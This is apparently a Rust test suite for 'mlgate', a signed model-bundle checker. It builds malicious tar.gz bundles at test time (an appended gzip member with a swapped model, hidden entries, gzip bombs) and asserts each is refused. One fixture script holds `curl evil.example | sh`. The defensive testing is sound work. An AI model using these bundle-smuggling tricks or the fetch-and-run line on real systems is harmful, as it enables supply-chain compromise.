//! Bundles against an attacker: archives that `tar -xzf` reads differently from a single-member reader, entries
//! the signed list does not name, bundles for another device, gzip bombs, and the memory a 2 GiB bundle costs.
//! Every attack file is built here, at test time.

use std::io::{Read, Write};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use mlgate::edge::archive::{read_tar_gz, Limits};

mod common;
use common::{flat, mlgate, text};

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/models")
}

const WINE_FEATURES: &str =
    "alcohol,malic_acid,ash,alcalinity_of_ash,magnesium,total_phenols,flavanoids,\
nonflavanoid_phenols,proanthocyanins,color_intensity,hue,od280_od315_of_diluted_wines,proline";

/// A folder with a key pair, a passing report, and the wine bundle (for linux-aarch64, version 1.2.0) signed
/// (`signed/`) and not (`plain/`).
struct Work {
    dir: tempfile::TempDir,
}

impl Work {
    fn new() -> Work {
        let dir = tempfile::tempdir().unwrap();
        let o = mlgate()
            .current_dir(dir.path())
            .arg("keygen")
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", text(&o));
        let report = serde_json::json!({"version": 1, "verdict": "pass", "checks": [{
            "id": "wine/metric", "kind": "metric", "subject": "wine", "status": "pass", "summary": "",
            "figures": {"metrics": [{"name": "accuracy", "value": 0.9777}]}, "findings": []}]});
        std::fs::write(dir.path().join("report.json"), report.to_string()).unwrap();
        for (out, signed) in [("signed", true), ("plain", false)] {
            let mut c = mlgate();
            c.current_dir(dir.path())
                .arg("bundle")
                .arg(fixtures().join("wine_logreg.onnx"))
                .args(["--target", "linux-aarch64", "--name", "wine"])
                .args([
                    "--bundle-version",
                    "1.2.0",
                    "--labels",
                    "class_0,class_1,class_2",
                ])
                .args(["--report", "report.json", "-o", out]);
            if signed {
                c.args(["--key", "mlgate.key", "--commit"])
                    .arg("0123456789abcdef0123456789abcdef01234567");
            }
            let o = c.output().unwrap();
            assert!(o.status.success(), "{}", text(&o));
        }
        Work { dir }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    fn signed(&self) -> PathBuf {
        self.path("signed/wine-1.2.0-linux-aarch64.tar.gz")
    }

    fn plain(&self) -> PathBuf {
        self.path("plain/wine-1.2.0-linux-aarch64.tar.gz")
    }

    /// `mlgate run BUNDLE` on three rows of wine, with `args`.
    fn run(&self, bundle: &Path, args: &[&str]) -> Output {
        mlgate()
            .current_dir(self.dir.path())
            .arg("run")
            .arg(bundle)
            .arg("--input")
            .arg(fixtures().join("data/wine_test.csv"))
            .args(["--features", WINE_FEATURES])
            .args(args)
            .output()
            .unwrap()
    }
}

/// The uncompressed tar inside a tar.gz.
fn untar_gz(path: &Path) -> Vec<u8> {
    let mut out = vec![];
    flate2::read::GzDecoder::new(std::fs::File::open(path).unwrap())
        .read_to_end(&mut out)
        .unwrap();
    out
}

fn gz(bytes: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(bytes).unwrap();
    e.finish().unwrap()
}

/// A ustar header for a regular file.
fn header(name: &str, size: u64) -> Vec<u8> {
    let mut h = tar::Header::new_ustar();
    h.set_path(name).unwrap();
    h.set_size(size);
    h.set_mode(0o755);
    h.set_mtime(0);
    h.set_entry_type(tar::EntryType::Regular);
    h.set_cksum();
    h.as_bytes().to_vec()
}

/// A regular file entry: header, data, padding.
fn entry(name: &str, data: &[u8]) -> Vec<u8> {
    let mut out = header(name, data.len() as u64);
    out.extend_from_slice(data);
    out.resize(out.len().div_ceil(512) * 512, 0);
    out
}

/// The tar without its end-of-archive blocks (`write_tar_gz` ends with two zero blocks).
fn without_end(tar: &[u8]) -> Vec<u8> {
    assert!(tar[tar.len() - 1024..].iter().all(|b| *b == 0));
    tar[..tar.len() - 1024].to_vec()
}

#[test]
fn a_second_gzip_member_that_tar_unpacks_is_refused() {
    // The attack: the signed bundle's tar without its end, then a second gzip member with a replaced model and a
    // script. `gzip -d` reads both members, so `tar -xzf` unpacks the script and the replaced model; a reader of
    // the first member alone sees the signed bundle, intact.
    let w = Work::new();
    let tar = untar_gz(&w.signed());
    let mut attack = gz(&without_end(&tar));
    let mut second = entry("models/wine_logreg.onnx", b"not the approved model");
    second.extend(entry("run.sh", b"#!/bin/sh\ncurl evil.example | sh\n"));
    second.extend([0u8; 1024]);
    attack.extend(gz(&second));
    let bundle = w.path("attack.tar.gz");
    std::fs::write(&bundle, &attack).unwrap();

    let x = w.path("x");
    std::fs::create_dir(&x).unwrap();
    let o = Command::new("tar")
        .arg("-xzf")
        .arg(&bundle)
        .arg("-C")
        .arg(&x)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", text(&o));
    assert!(x.join("run.sh").exists(), "tar unpacked the script");
    assert_eq!(
        std::fs::read(x.join("models/wine_logreg.onnx")).unwrap(),
        b"not the approved model"
    );

    for args in [
        &["--pubkey", "mlgate.pub", "--target", "linux-aarch64"][..],
        &["--target", "linux-aarch64"][..],
    ] {
        let o = w.run(&bundle, args);
        assert_eq!(o.status.code(), Some(2), "{}", text(&o));
        let all = flat(&o);
        assert!(
            all.contains(&format!(
                "the tar archive stops at byte {} without its end-of-archive block",
                tar.len() - 1024
            )) && all.contains("its end was removed so that more entries could be appended"),
            "{all}"
        );
        assert!(!all.contains("prediction"), "{all}");
    }

    // The same with the first member's end left in: the second member is named.
    let mut attack = std::fs::read(w.signed()).unwrap();
    let first = attack.len();
    attack.extend(gz(&second));
    std::fs::write(&bundle, &attack).unwrap();
    let o = w.run(
        &bundle,
        &["--pubkey", "mlgate.pub", "--target", "linux-aarch64"],
    );
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(
        flat(&o).contains(&format!("a second gzip member starts at byte {first}")),
        "{}",
        text(&o)
    );
}

#[test]
fn bytes_after_the_gzip_member_or_the_tar_end_are_refused() {
    let w = Work::new();
    let mut junk = std::fs::read(w.signed()).unwrap();
    let end = junk.len();
    junk.extend_from_slice(b"#!/bin/sh\necho hidden\n");
    let bundle = w.path("trailing.tar.gz");
    std::fs::write(&bundle, &junk).unwrap();
    let o = w.run(
        &bundle,
        &["--pubkey", "mlgate.pub", "--target", "linux-aarch64"],
    );
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(
        flat(&o).contains(&format!(
            "data after the end of the gzip stream (at byte {end})"
        )),
        "{}",
        text(&o)
    );

    // Inside the gzip member, after the tar's end: an entry `tar -i` (--ignore-zeros) would unpack.
    let tar = untar_gz(&w.signed());
    let mut hidden = tar.clone();
    hidden.extend(entry("run.sh", b"#!/bin/sh\n"));
    hidden.extend([0u8; 1024]);
    std::fs::write(&bundle, gz(&hidden)).unwrap();
    let o = w.run(
        &bundle,
        &["--pubkey", "mlgate.pub", "--target", "linux-aarch64"],
    );
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(
        flat(&o).contains(&format!(
            "non-zero bytes at byte {} after the end of the tar archive (at byte {})",
            tar.len(),
            tar.len() - 1024
        )),
        "{}",
        text(&o)
    );
}

#[test]
fn an_unlisted_entry_of_a_signed_bundle_is_refused_before_its_bytes_are_read() {
    // The entry claims 1 GiB and the archive stops right after its header: a reader that read its bytes would
    // report a cut archive (exit 2); the check refuses it from its name (exit 1).
    let w = Work::new();
    let mut tar = without_end(&untar_gz(&w.signed()));
    tar.extend(header("models/helper.sh", 1 << 30));
    let bundle = w.path("unlisted.tar.gz");
    std::fs::write(&bundle, gz(&tar)).unwrap();
    let o = w.run(
        &bundle,
        &[
            "--pubkey",
            "mlgate.pub",
            "--target",
            "linux-aarch64",
            "--format",
            "json",
        ],
    );
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    let out: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let sig = &out["report"]["checks"][1];
    assert_eq!(sig["kind"], "signature");
    assert_eq!(sig["findings"][0]["code"], "not-listed");
    assert_eq!(
        sig["findings"][0]["message"],
        "models/helper.sh is not in the signed SHA256SUMS (nor a signature of a listed file): refused before \
         its bytes were read"
    );
    assert!(out["predictions"].is_null());
    // The manifest read before the stop is not vouched for: no identity check is reported on it.
    let kinds: Vec<&str> = out["report"]["checks"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["kind"].as_str().unwrap())
        .collect();
    assert_eq!(kinds, ["bundle", "signature"]);

    // Without keys nothing is trusted: the whole archive is read, and the cut is what is reported.
    let o = w.run(&bundle, &["--target", "linux-aarch64"]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(
        flat(&o).contains("entry \"models/helper.sh\" is cut short"),
        "{}",
        text(&o)
    );
}

#[test]
fn a_signed_bundle_must_start_with_its_signed_list() {
    let w = Work::new();
    let mut tar = entry("aaa.txt", b"first");
    tar.extend(untar_gz(&w.signed()));
    let bundle = w.path("reordered.tar.gz");
    std::fs::write(&bundle, gz(&tar)).unwrap();
    let o = w.run(
        &bundle,
        &["--pubkey", "mlgate.pub", "--target", "linux-aarch64"],
    );
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert!(
        flat(&o).contains(
            "bundle-layout: entry 1 is aaa.txt, expected SHA256SUMS: a signed bundle starts with its signed file list"
        ),
        "{}",
        text(&o)
    );
}

#[test]
fn a_signed_bundle_for_another_target_model_or_older_version_is_refused() {
    let w = Work::new();
    let signed = w.signed();
    let key = ["--pubkey", "mlgate.pub"];
    let cases: [(&[&str], &str); 4] = [
        (
            &["--target", "linux-x86_64"],
            "target-mismatch: the bundle is for target linux-aarch64, expected linux-x86_64",
        ),
        (
            &["--target", "linux-aarch64", "--model", "digits"],
            "model-mismatch: the bundle holds model \"wine\", expected \"digits\"",
        ),
        (
            &["--target", "linux-aarch64", "--min-version", "1.10"],
            "version-too-old: the bundle's version 1.2.0 is older than the minimum 1.10",
        ),
        (
            &["--target", "linux-aarch64", "--min-version", "1.2.1-rc.1"],
            "version-too-old: the bundle's version 1.2.0 is older than the minimum 1.2.1-rc.1",
        ),
    ];
    for (args, expected) in cases {
        let all: Vec<&str> = key.iter().chain(args).copied().collect();
        let o = w.run(&signed, &all);
        assert_eq!(o.status.code(), Some(1), "{args:?}: {}", text(&o));
        assert!(flat(&o).contains(expected), "{args:?}: {}", text(&o));
        assert!(!text(&o).contains("row\tprediction"), "{}", text(&o));
    }
    // What it is: accepted.
    let o = w.run(
        &signed,
        &[
            "--pubkey",
            "mlgate.pub",
            "--target",
            "linux-aarch64",
            "--model",
            "wine",
            "--min-version",
            "v1.2",
        ],
    );
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert!(
        flat(&o).contains("pass wine-1.2.0-linux-aarch64.tar.gz/identity wine 1.2.0 for linux-aarch64, as expected"),
        "{}",
        text(&o)
    );
    // Without --target the machine's own target is expected.
    if mlgate::edge::Target::this_machine().is_some_and(|t| t.name != "linux-aarch64") {
        let o = w.run(&signed, &key);
        assert_eq!(o.status.code(), Some(1), "{}", text(&o));
        assert!(flat(&o).contains("target-mismatch"), "{}", text(&o));
    }
    // A --min-version that is not a version is a usage error.
    let o = w.run(&signed, &["--min-version", "latest"]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(
        flat(&o).contains("\"latest\" is not a version"),
        "{}",
        text(&o)
    );
    let o = w.run(&signed, &["--target", "windows"]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(
        flat(&o).contains("unknown target \"windows\""),
        "{}",
        text(&o)
    );
}

#[test]
fn without_a_key_the_run_says_only_integrity_was_checked_or_refuses() {
    let w = Work::new();
    let o = w.run(
        &w.plain(),
        &["--target", "linux-aarch64", "--format", "json"],
    );
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("warning: INTEGRITY ONLY: no --pubkey was given"),
        "{err}"
    );
    let out: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let last = out["report"]["checks"]
        .as_array()
        .unwrap()
        .last()
        .unwrap()
        .clone();
    assert_eq!(last["kind"], "signature");
    assert_eq!(last["status"], "warn");

    for env in [None, Some("1"), Some("true")] {
        let mut c = mlgate();
        c.current_dir(w.dir.path())
            .arg("run")
            .arg(w.plain())
            .arg("--input")
            .arg(fixtures().join("data/wine_test.csv"))
            .args(["--target", "linux-aarch64"]);
        match env {
            None => {
                c.arg("--require-signature");
            }
            Some(v) => {
                c.env("MLGATE_REQUIRE_SIGNATURE", v);
            }
        }
        let o = c.output().unwrap();
        assert_eq!(o.status.code(), Some(1), "{env:?}: {}", text(&o));
        assert!(flat(&o).contains("signature-required"), "{}", text(&o));
        assert!(!text(&o).contains("INTEGRITY ONLY"), "{}", text(&o));
    }
    // MLGATE_REQUIRE_SIGNATURE=0 is off; a signed run passes with it on.
    let o = mlgate()
        .current_dir(w.dir.path())
        .env("MLGATE_REQUIRE_SIGNATURE", "0")
        .arg("run")
        .arg(w.signed())
        .arg("--input")
        .arg(fixtures().join("data/wine_test.csv"))
        .args(["--features", WINE_FEATURES, "--target", "linux-aarch64"])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let o = mlgate()
        .current_dir(w.dir.path())
        .env("MLGATE_REQUIRE_SIGNATURE", "1")
        .arg("run")
        .arg(w.signed())
        .arg("--input")
        .arg(fixtures().join("data/wine_test.csv"))
        .args([
            "--features",
            WINE_FEATURES,
            "--target",
            "linux-aarch64",
            "--pubkey",
            "mlgate.pub",
        ])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
}

/// Runs `c` and returns its output and the peak resident memory of the process, in bytes.
///
/// The peak is the kernel's `VmHWM` of the child's own address space, read from /proc while it runs (every 2 ms,
/// so a peak in its last 2 ms could be missed; reading streams for seconds at a flat level, then the model runs).
/// Not `ru_maxrss` from wait4: Linux carries the high-water mark of the address space the child was spawned from
/// (this test process's, over 64 MB) into it across exec.
///
/// A child that ends before the first reading (a fast refusal on a loaded machine: a zombie has no VmHWM) is run
/// again, up to ten times, rather than reported as 0 bytes or failing the test.
#[cfg(target_os = "linux")]
fn run_measured(mut c: Command) -> (Output, u64) {
    for _ in 0..10 {
        if let Some(measured) = run_measured_once(&mut c) {
            return measured;
        }
    }
    panic!("the child ended before its memory could be read, ten times: {c:?}");
}

#[cfg(target_os = "linux")]
fn run_measured_once(c: &mut Command) -> Option<(Output, u64)> {
    let mut child = c
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // Read the pipes on threads so that a chatty child cannot block.
    let mut out_pipe = child.stdout.take().unwrap();
    let mut err_pipe = child.stderr.take().unwrap();
    let out = std::thread::spawn(move || {
        let mut v = vec![];
        out_pipe.read_to_end(&mut v).unwrap();
        v
    });
    let err = std::thread::spawn(move || {
        let mut v = vec![];
        err_pipe.read_to_end(&mut v).unwrap();
        v
    });
    let proc_status = format!("/proc/{}/status", child.id());
    let mut peak_kib = 0u64;
    let status = loop {
        if let Ok(s) = std::fs::read_to_string(&proc_status) {
            let hwm = s
                .lines()
                .find_map(|l| l.strip_prefix("VmHWM:"))
                .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<u64>().ok());
            peak_kib = peak_kib.max(hwm.unwrap_or(0));
        }
        if let Some(st) = child.try_wait().unwrap() {
            break st;
        }
        std::thread::sleep(std::time::Duration::from_millis(2));
    };
    let output = Output {
        status,
        stdout: out.join().unwrap(),
        stderr: err.join().unwrap(),
    };
    (peak_kib > 0).then_some((output, peak_kib * 1024))
}

const RSS_LIMIT: u64 = 64 << 20;

/// Writes a tar.gz of `head` (tar bytes), then an entry `name` of `size` zero bytes (when `size` is set), then the
/// end blocks, streaming, without holding the zeros. At the best compression: 1 GiB of zeros is about 1 MB.
fn write_with_zeros(path: &Path, head: &[u8], name: &str, size: u64) {
    let f = std::io::BufWriter::new(std::fs::File::create(path).unwrap());
    let mut e = flate2::write::GzEncoder::new(f, flate2::Compression::default());
    e.write_all(head).unwrap();
    e.write_all(&header(name, size)).unwrap();
    let zeros = vec![0u8; 1 << 20];
    let mut left = size;
    while left > 0 {
        let n = left.min(zeros.len() as u64) as usize;
        e.write_all(&zeros[..n]).unwrap();
        left -= n as u64;
    }
    let pad = (size.div_ceil(512) * 512 - size) as usize;
    e.write_all(&zeros[..pad + 1024]).unwrap();
    e.finish().unwrap().flush().unwrap();
}

#[cfg(target_os = "linux")]
#[test]
fn a_2_gib_bundle_is_checked_and_run_in_bounded_memory() {
    // The plain bundle with a 2 GiB data file that SHA256SUMS lists: every check passes and the model runs.
    let w = Work::new();
    let mut files = read_tar_gz(&w.plain(), Limits::default()).unwrap();
    const SIZE: u64 = 2 << 30;
    let zeros_sha = {
        use sha2::Digest;
        let mut h = sha2::Sha256::new();
        let block = vec![0u8; 1 << 20];
        for _ in 0..(SIZE >> 20) {
            h.update(&block);
        }
        mlgate::sign::hex(&h.finalize())
    };
    let mut sums = String::from_utf8(files["SHA256SUMS"].clone()).unwrap();
    sums.push_str(&format!("{zeros_sha}  data/zeros.bin\n"));
    files.insert("SHA256SUMS".into(), sums.into_bytes());
    let head = without_end(&{
        let gzipped = mlgate::edge::archive::write_tar_gz(&files).unwrap();
        let mut out = vec![];
        flate2::read::GzDecoder::new(&gzipped[..])
            .read_to_end(&mut out)
            .unwrap();
        out
    });
    let bundle = w.path("big.tar.gz");
    write_with_zeros(&bundle, &head, "data/zeros.bin", SIZE);
    let mut c = mlgate();
    c.current_dir(w.dir.path())
        .arg("run")
        .arg(&bundle)
        .arg("--input")
        .arg(fixtures().join("data/wine_test.csv"))
        .args(["--features", WINE_FEATURES, "--target", "linux-aarch64"]);
    let (o, rss) = run_measured(c);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert!(
        flat(&o).contains("4 entries; every digest matches SHA256SUMS"),
        "{}",
        text(&o)
    );
    assert!(text(&o).contains("row\tprediction"), "{}", text(&o));
    assert!(rss < RSS_LIMIT, "peak RSS {} MiB", rss >> 20);
    eprintln!("2 GiB bundle: peak RSS {} MiB", rss >> 20);
}

#[cfg(target_os = "linux")]
#[test]
fn gzip_bombs_are_refused_in_bounded_memory() {
    let w = Work::new();
    let signed_head = without_end(&untar_gz(&w.signed()));
    let plain_head = without_end(&untar_gz(&w.plain()));
    const SIZE: u64 = 3 << 29; // 1.5 GiB of zeros: about 1.5 MB compressed.
    let bomb = w.path("bomb.tar.gz");
    let cases: [(&Vec<u8>, &[&str], i32, &str); 2] = [
        // Signed: refused from its name, before its bytes.
        (
            &signed_head,
            &["--pubkey", "mlgate.pub"],
            1,
            "data/pad.bin is not in the signed SHA256SUMS",
        ),
        // Unsigned: inflated (not kept, not hashed), then refused as not listed.
        (
            &plain_head,
            &[],
            1,
            "not-listed: data/pad.bin is in the bundle but not in SHA256SUMS",
        ),
    ];
    for (head, args, code, expected) in cases {
        write_with_zeros(&bomb, head, "data/pad.bin", SIZE);
        assert!(std::fs::metadata(&bomb).unwrap().len() < 4 << 20);
        let mut c = mlgate();
        c.current_dir(w.dir.path())
            .arg("run")
            .arg(&bomb)
            .arg("--input")
            .arg(fixtures().join("data/wine_test.csv"))
            .args(["--features", WINE_FEATURES, "--target", "linux-aarch64"])
            .args(args);
        let (o, rss) = run_measured(c);
        assert_eq!(o.status.code(), Some(code), "{}", text(&o));
        assert!(flat(&o).contains(expected), "{}", text(&o));
        assert!(rss < RSS_LIMIT, "{args:?}: peak RSS {} MiB", rss >> 20);
        eprintln!("gzip bomb {args:?}: peak RSS {} MiB", rss >> 20);
    }

    // Nothing but zeros: the end of the archive, then more padding than any tar tool writes.
    let f = std::io::BufWriter::new(std::fs::File::create(&bomb).unwrap());
    let mut e = flate2::write::GzEncoder::new(f, flate2::Compression::default());
    let zeros = vec![0u8; 1 << 20];
    for _ in 0..(SIZE >> 20) {
        e.write_all(&zeros).unwrap();
    }
    e.finish().unwrap().flush().unwrap();
    let mut c = mlgate();
    c.current_dir(w.dir.path())
        .arg("run")
        .arg(&bomb)
        .arg("--input")
        .arg(fixtures().join("data/wine_test.csv"))
        .args(["--target", "linux-aarch64"]);
    let (o, rss) = run_measured(c);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(
        flat(&o).contains("more than 1048576 bytes of padding after the end of the tar archive"),
        "{}",
        text(&o)
    );
    assert!(rss < RSS_LIMIT, "peak RSS {} MiB", rss >> 20);

    // An entry over the size limit is refused from its header.
    let mut tar = plain_head.clone();
    tar.extend(header("data/huge.bin", 5 << 30));
    std::fs::write(&bomb, gz(&tar)).unwrap();
    let o = w.run(&bomb, &["--target", "linux-aarch64"]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(
        flat(&o).contains(
            "entry \"data/huge.bin\" is 5368709120 bytes, over the limit of 4294967296 bytes"
        ),
        "{}",
        text(&o)
    );
}

#[test]
fn the_fixture_bundles_are_what_mlgate_bundle_makes() {
    // tests/cmd/run-*.toml read committed bundles; this remakes them with the script that made them.
    let here = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/bundles");
    let out = tempfile::tempdir().unwrap();
    let o = Command::new("sh")
        .arg(here.join("make_bundles.sh"))
        .arg(out.path())
        .env("MLGATE", env!("CARGO_BIN_EXE_mlgate"))
        .env_remove("MLGATE_SIGNING_KEY")
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", text(&o));
    for kind in ["signed", "plain"] {
        let name = format!("{kind}/wine-1.2.0-linux-aarch64.tar.gz");
        assert!(
            std::fs::read(out.path().join(&name)).unwrap()
                == std::fs::read(here.join(&name)).unwrap(),
            "{name} differs from what make_bundles.sh makes now: run it (see its header)"
        );
    }
}
